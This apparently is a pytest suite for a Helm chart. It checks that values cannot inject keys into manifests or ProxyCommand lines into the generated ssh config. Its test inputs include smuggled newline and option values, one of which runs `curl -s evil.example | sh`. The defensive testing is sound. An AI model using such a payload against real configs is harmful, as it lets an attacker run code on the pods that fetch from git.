"""Every value the chart writes into a manifest or a config file is quoted or restricted by the
schema (issue 23): a value that ends its line cannot add a key, a manifest or an ssh option.

`sshAuthSecrets[].host` went into the ssh client config unchecked, so a newline added a
`ProxyCommand` the agent's pod would run on its next git fetch. The sweep below sets each
string the schema allows (every leaf, list entry and map key and value), one at a time, to text
that would end its line and start a key, on top of values that switch every template on; the
render must then be refused by the schema or the chart, or hold that text only as data."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.chart.conftest import ci_file
from tests.chart.helm import CHART, Helm, HelmError, Manifest

# Ends its line in every quoting style a template might put it in (plain, '...', "..."), then
# starts a key, an ssh option and a comment.
MARK = "v'\"\n  injected: 1\nProxyCommand injected\n#"
# Values that are files the admin writes verbatim (YAML, git credentials): shipped as they
# are, inside a quoted ConfigMap or Secret value; only the manifest around them is checked.
VERBATIM = ("launchConfig", "gitCreds", "queueSpecs")
# Switches every template on, on top of W&B's every-option values.
EVERYTHING: dict[str, Any] = {
    "kaniko": {"enabled": True},
    "metrics": {"serviceMonitor": {"enabled": True}, "prometheusRule": {"enabled": True}},
    "dashboards": {"grafana": {"enabled": True}},
    "podDisruptionBudget": {"enabled": True},
    "diagnostics": {"enabled": True, "image": "registry.example.com/gke/collector:1"},
    "networkPolicy": {"enabled": True},
    "status": {"token": "status-token"},
    "multikueue": {"workers": [{"name": "worker-1", "secretName": "worker-1-reader"}]},
}


def _types(node: dict[str, Any]) -> list[str]:
    kind = node.get("type", [])
    return kind if isinstance(kind, list) else [kind]


def _minimal(node: dict[str, Any]) -> Any:
    """A value of `node`'s schema with its required keys set to plain text."""
    if "object" in _types(node):
        return {k: _minimal(node["properties"][k]) for k in node.get("required", [])}
    if "array" in _types(node):
        return [_minimal(node.get("items", {}))]
    return node["enum"][0] if "enum" in node else "x"


def overlays(node: dict[str, Any], path: tuple[str, ...] = ()) -> Iterator[tuple[str, Any]]:
    """(dotted path, a values overlay putting MARK there) for every string the schema allows."""
    types = _types(node)
    if "object" in types and "properties" in node:
        for key, child in node["properties"].items():
            for where, value in overlays(child, (*path, key)):
                yield where, {key: value}
    extra = node.get("additionalProperties")
    if "object" in types and isinstance(extra, dict):
        if "string" in _types(extra) or not _types(extra):
            yield ".".join((*path, "<value>")), {"key": MARK}
        yield ".".join((*path, "<key>")), {MARK: _minimal(extra) if _types(extra) else "x"}
    if "array" in types:
        items = node.get("items", {})
        if "object" in _types(items) and "properties" in items:
            for key, child in items["properties"].items():
                for where, value in overlays(child, ()):
                    yield (
                        ".".join((*path, "[]", key, where)).rstrip("."),
                        [{**_minimal(items), key: value}],
                    )
        elif "string" in _types(items):
            yield ".".join((*path, "[]")), [MARK]
    if "string" in types and "properties" not in node:
        yield ".".join(path), MARK


SCHEMA = json.loads((CHART / "values.schema.json").read_text())
CASES = sorted(dict(overlays(SCHEMA)).items())


def _keys(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _keys(v)
    elif isinstance(value, list):
        for v in value:
            yield from _keys(v)


def _files(manifests: list[Manifest]) -> Iterator[tuple[str, str]]:
    """(name, text) of every config file the chart ships: a ConfigMap's entries and a Secret's
    dotfiles (`.gitconfig`). A Secret's other entries (a password, a token, an env value) are
    opaque data, read whole by whoever reads them."""
    for doc in manifests:
        for field in ("data", "stringData"):
            for name, text in (doc.get(field) or {}).items():
                config = doc.get("kind") == "ConfigMap" or (
                    doc.get("kind") == "Secret" and name.startswith(".")
                )
                if config and isinstance(text, str):
                    yield f"{doc['metadata']['name']}/{name}", text


def render(helm: Helm, tmp_path: Path, overlay: Any) -> list[Manifest]:
    everything = tmp_path / "everything.yaml"
    everything.write_text(yaml.safe_dump(EVERYTHING))
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(yaml.safe_dump(overlay))
    return helm.template([ci_file("wandb-all-options-values.yaml"), everything, hostile])


def test_the_sweep_reaches_every_string_of_the_schema() -> None:
    paths = [p for p, _ in CASES]
    assert "sshAuthSecrets.[].host" in paths and "fullnameOverride" in paths
    assert "agent.labels.<key>" in paths and "rbac.extraRules.[].verbs.[]" in paths
    assert len(paths) > 60


def test_the_everything_values_render(helm: Helm, tmp_path: Path) -> None:
    kinds = {doc["kind"] for doc in render(helm, tmp_path, {})}
    assert {"PrometheusRule", "ServiceMonitor", "PodDisruptionBudget", "DaemonSet"} <= kinds
    names = {doc["metadata"]["name"] for doc in render(helm, tmp_path, {})}
    assert "rel-multikueue-worker-rbac" in names


@pytest.mark.parametrize(("path", "overlay"), CASES, ids=[p for p, _ in CASES])
def test_a_value_that_ends_its_line_adds_nothing(
    helm: Helm, tmp_path: Path, path: str, overlay: Any
) -> None:
    try:
        manifests = render(helm, tmp_path, overlay)
    except HelmError as exc:
        refusal = str(exc)
    else:
        refusal = ""
    if refusal:
        # Refused by the schema or by the chart's own checks: never a template that broke.
        # (`YAML parse error on <template>` is helm failing to read what a template wrote.)
        assert "YAML parse error on" not in refusal, refusal
        return
    assert "injected" not in set(_keys(manifests)), path
    # The text is there only whole, as one value (or escaped inside one).
    if path.split(".", maxsplit=1)[0] in VERBATIM:
        return
    for name, text in _files(manifests):
        for line in text.splitlines():
            assert not line.strip().startswith(("injected", "ProxyCommand")), (name, text)


@pytest.mark.parametrize(
    "host",
    [
        "github.com\n  ProxyCommand sh -c 'curl -s evil.example | sh'",
        "github.com\r\nProxyCommand x",
        "github.com ProxyCommand=x",
        "github.com\tProxyCommand x",
        '"github.com"',
        "-oProxyCommand=x",
        "github.com#",
        "",
    ],
)
def test_an_ssh_host_that_is_not_a_host_pattern_is_refused(
    helm: Helm, tmp_path: Path, host: str
) -> None:
    with pytest.raises(HelmError, match="host"):
        render(helm, tmp_path, {"sshAuthSecrets": [{"name": "deploy-key", "host": host}]})


@pytest.mark.parametrize(
    "host", ["github.com", "*.github.com", "gitlab.internal", "10.0.0.7", "git-?.example.com"]
)
def test_an_ssh_host_pattern_is_written_quoted(helm: Helm, tmp_path: Path, host: str) -> None:
    manifests = render(helm, tmp_path, {"sshAuthSecrets": [{"name": "deploy-key", "host": host}]})
    config = dict(_files(manifests))["rel-ssh-config/config"]
    assert f'Host "{host}"\n' in config
    assert [line.split()[0] for line in config.splitlines() if line.strip()] == [
        "Host",
        "IdentityFile",
        "IdentitiesOnly",
        "StrictHostKeyChecking",
        "UserKnownHostsFile",
    ]
